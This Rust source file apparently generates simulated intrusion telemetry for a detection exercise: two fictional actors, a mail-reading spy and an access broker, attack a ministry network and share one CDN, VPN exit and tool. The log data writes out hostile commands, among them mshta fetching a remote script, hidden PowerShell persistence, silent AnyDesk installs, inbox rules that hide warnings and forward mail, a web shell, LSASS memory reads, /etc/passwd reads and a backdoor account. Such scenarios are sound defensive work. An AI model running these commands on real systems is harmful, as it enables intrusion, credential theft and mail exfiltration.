//! Scenario `twins`: two actors who know nothing of each other, at once in one house, behind the same shared
//! infrastructure.

use palisade_model::{ObservableKind, Vector};

use crate::acts::{opened, set_value, wrote};
use crate::cloud::{AT_DESK, Cloud, SignIn};
use crate::plan::Plan;
use crate::scenario::decoys::{self, Grounds};
use crate::scenario::moves::{
    self, Server, changes, consent, download, exchange, reaches, risky, server, signs_in,
};
use crate::scenario::programs::{LSASS, MSHTA, POOL, POWERSHELL, WORD};
use crate::scenario::{ScenarioInfo, Scene, rules};
use crate::truth::ActorProfile;
use crate::world::{Role, World};

/// The scenario.
pub(crate) const SCENE: Scene = Scene {
    info: ScenarioInfo {
        name: "twins",
        title: "Two doors",
        summary: "A ministry has two guests in the same weeks. One reads the mail of its negotiators; the other came \
                  through a web server, steals credentials and sells them. Both hide behind one content delivery \
                  network and one VPN, and both use the same public program.",
        sources: &[
            "Public report on the party committee in 2016, in whose networks two services worked without knowing of \
             each other",
            "Public advisories on shared exits, content delivery and open tools as a reason for wrong joins",
        ],
        vectors: &[Vector::Host, Vector::Mail],
    },
    label: "aussenamt",
    end: 1_792_800_000, // 2026-10-24
    cast: &[
        (Role::Office, 8),
        (Role::Admin, 1),
        (Role::Server, 3),
        (Role::Controller, 2),
        (Role::WebWindows, 1),
        (Role::LinuxWeb, 2),
    ],
    clouds: &[Cloud::SignIns, Cloud::Directory, Cloud::M365],
    ledger: false,
    plant,
    actors,
    notes: &[
        "Both campaigns reach one address of shared content delivery, sign in from one VPN exit, and run one public \
         program with one hash. None of these may join them.",
        "Their steps lie between each other in time; their machines and accounts are different ones.",
        "Staff use the same content delivery and the same exits, and support the remote tool whose one hash both have.",
    ],
};

const READER: &str = "VELVET NIGHTJAR";
const BROKER: &str = "GRAVEL STOAT";

fn actors(world: &World) -> Vec<ActorProfile> {
    let techniques = ["T1566.001", "T1528", "T1564.008", "T1114.003", "T1048"];
    vec![
        super::actor(
            world,
            READER,
            "the fictional Republic of Varny",
            &techniques,
            &["syncpub"],
            &["patience"],
        ),
        super::actor(
            world,
            BROKER,
            "nobody; it sells access",
            &["T1190", "T1505.003", "T1003.001", "T1047", "T1048"],
            &["syncpub"],
            &["haste"],
        ),
    ]
}

fn plant(p: &mut Plan<'_>) {
    let w = p.world;
    // What both share, and everybody else has too.
    let shared = Server { name: w.cdn(0).name.clone(), ip: w.cdn(0).ip.clone() };
    let exit = w.exits[2].clone();
    let public = p.tool("syncpub");
    reader(p, &shared, &exit, &public);
    broker(p, &shared, &exit, &public);
    let server = p.take(Role::Server);
    let grounds = Grounds {
        tested_desk: p.take(Role::Office),
        tested_server: server,
        careless_desk: p.take(Role::Office),
        hardened: server,
        when: [380, 130, 700],
    };
    decoys::plant(p, &grounds);
}

/// The one who reads mail.
fn reader(p: &mut Plan<'_>, shared: &Server, exit: &str, public: &str) {
    let w = p.world;
    let (desk, other) = (p.take(Role::Office), p.take(Role::Office));
    let (envoy, aide) = (w.owner(desk).clone(), w.owner(other).clone());
    let own = server(p, "protocol-office", "org");
    p.campaign("the reader of negotiators' mail", READER);
    p.phase(30, 8);
    p.later(
        Vector::Mail,
        0,
        "a note verbale with a document",
        &["T1566.001"],
        &[(ObservableKind::Email, &envoy.mail), (ObservableKind::Domain, &own.name)],
    );
    p.step(900, "the document starts a script host", &["T1204.002"], &[rules::OFFICE, rules::MSHTA]);
    let word = p.standing(desk, &envoy.windows, WORD);
    let mshta = p.run(desk, &word, MSHTA, &format!("mshta.exe https://{}/n.hta", own.name));
    p.step(904, "it reaches its server", &["T1071.001"], &[rules::SCRIPT_OUT]);
    reaches(p, desk, &mshta, &own);
    let shell = moves::encoded(p, 930, desk, &mshta);
    p.step(
        960,
        "the public program, fetched from shared content delivery",
        &["T1105"],
        &[rules::WRITABLE_OUT],
    );
    let called = w.called("syncpub");
    let image = &format!("C:\\Users\\Public\\{called}.exe");
    let tool = p.run_file(desk, &shell, image, &format!("{called}.exe copy docs remote:"), Some(public));
    reaches(p, desk, &tool, shared);
    if p.perhaps(4) {
        p.step(1_000, "a run key to come back", &["T1547.001"], &[rules::RUN_KEY]);
        let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Protocol", envoy.sid);
        p.on(desk, set_value(&shell, &key, "powershell -w hidden -f C:\\Users\\Public\\p.ps1"));
    }

    p.step(1_300, "a remote tool, the one that support uses", &["T1219"], &[rules::REMOTE_TOOL]);
    let line = "AnyDesk.exe --install C:\\Users\\Public\\any --silent";
    p.run(desk, &shell, "C:\\Users\\Public\\AnyDesk.exe", line);

    p.phase(180, 20);
    p.step(0, "the envoy's account signs in over an old protocol", &["T1078.004"], &[rules::LEGACY]);
    let old = SignIn { client: "IMAP4", two_factors: false, managed: false, agent: "BAV2ROPC", ..AT_DESK };
    signs_in(p, &envoy.mail, &own.ip, &old);
    p.step(400, "an inbox rule hides warnings", &["T1564.008"], &[rules::INBOX_HIDES]);
    let hide = [("Name", ","), ("SubjectContainsWords", "security;suspicious"), ("DeleteMessage", "True")];
    exchange(p, &envoy.mail, &own.ip, "New-InboxRule", &hide);
    p.phase(420, 19);
    p.step(0, "an aide's account signs in from the VPN exit", &["T1078.004"], &[rules::RISK]);
    risky(p, &aide.mail, exit, "anonymizedIPAddress");
    p.step(600, "an application gets lasting access to the aide's mail", &["T1528"], &[rules::CONSENT]);
    consent(p, &aide.mail, &own.ip, "Mail.Read Mail.ReadWrite offline_access");
    p.step(900, "mail is sent on", &["T1114.003"], &[rules::INBOX_FORWARDS]);
    exchange(
        p,
        &aide.mail,
        &own.ip,
        "New-InboxRule",
        &[("Name", "cc"), ("ForwardTo", "registry@post.example.org")],
    );
    p.phase(820, 20);
    p.step(0, "a secret is added to an application", &["T1098.001"], &[rules::APP_SECRET]);
    changes(p, &aide.mail, &own.ip, "Add service principal credentials", "Calendar bridge");
    p.step(300, "negotiation papers are downloaded", &["T1213.002"], &[]);
    download(p, &aide.mail, &own.ip, "position-paper.docx");
}

/// The one who sells access.
fn broker(p: &mut Plan<'_>, shared: &Server, exit: &str, public: &str) {
    let (web, files, app) = (p.take(Role::WebWindows), p.take(Role::Server), p.take(Role::Server));
    let linux = p.take(Role::LinuxWeb);
    let admin = p.take_admin();
    let own = server(p, "stats-node", "com");
    p.campaign("the broker of access", BROKER);
    p.phase(90, 3);
    p.step(0, "a page is written by the web server itself", &["T1190", "T1505.003"], &[rules::WEB_SCRIPT]);
    let pool = p.standing(web, "IIS APPPOOL\\Visa", POOL);
    p.on(web, wrote(&pool, "C:\\inetpub\\wwwroot\\visa\\x.aspx"));
    p.step(30, "a shell is started through it", &["T1505.003"], &[rules::WEB_SHELL]);
    let shell = p.run(web, &pool, POWERSHELL, "powershell.exe -c whoami");
    p.step(90, "the public program on the web server", &["T1105"], &[rules::WRITABLE_OUT]);
    let called = p.world.called("syncpub");
    let image = &format!("C:\\Windows\\Tasks\\{called}.exe");
    let tool = p.run_file(web, &shell, image, &format!("{called}.exe copy dump remote:"), Some(public));
    reaches(p, web, &tool, shared);
    p.step(300, "credentials are read from memory", &["T1003.001"], &[rules::LSASS_UNBACKED]);
    let lsass = p.standing(web, "NT AUTHORITY\\SYSTEM", LSASS);
    let thief = p.standing(web, &admin.windows, "C:\\Windows\\Tasks\\m.exe");
    p.on(
        web,
        opened(&thief, &lsass, "0x1410", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(0000024B1C0)"),
    );

    p.phase(230, 2);
    let shell = moves::over_wmi(p, 0, (web, files), &admin, "quser");
    p.step(120, "it calls home from the file server", &["T1071.001"], &[rules::WRITABLE_OUT]);
    let agent = p.run(files, &shell, "C:\\Windows\\Tasks\\n.exe", "n.exe");
    reaches(p, files, &agent, &own);
    moves::dump_memory(p, 500, files, &admin.windows);
    p.phase(400, 4);
    p.step(0, "a web server runs reconnaissance", &["T1190"], &[rules::WEB_RECON]);
    let fpm = p.standing(linux, "www-data", "/usr/sbin/php-fpm8.2");
    let sh = p.run(linux, &fpm, "/bin/sh", "sh -c whoami; cat /etc/passwd");
    p.step(40, "a program in a temporary directory calls home", &["T1105"], &[rules::TEMPORARY_OUT]);
    let agent = p.run(linux, &sh, "/tmp/.n", "/tmp/.n");
    reaches(p, linux, &agent, &own);
    p.phase(560, 3);
    let cmd = moves::over_winrm(p, 0, (files, app), &admin, "net user svc-print P@ssw0rd! /add");
    if p.perhaps(4) {
        p.step(100, "antivirus weakened", &["T1685"], &[rules::DEFENDER_OFF]);
        p.run(app, &cmd, POWERSHELL, "powershell Add-MpPreference -ExclusionPath C:\\ProgramData");
    }
    p.step(220, "a remote tool for whoever buys", &["T1219"], &[rules::REMOTE_TOOL]);
    p.run(
        app,
        &cmd,
        "C:\\ProgramData\\AnyDesk.exe",
        "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --silent --set-password",
    );
    p.step(400, "the VPN exit tries the administrator's mailbox", &["T1078.004"], &[rules::RISK]);
    risky(p, &admin.mail, exit, "unlikelyTravel");
}
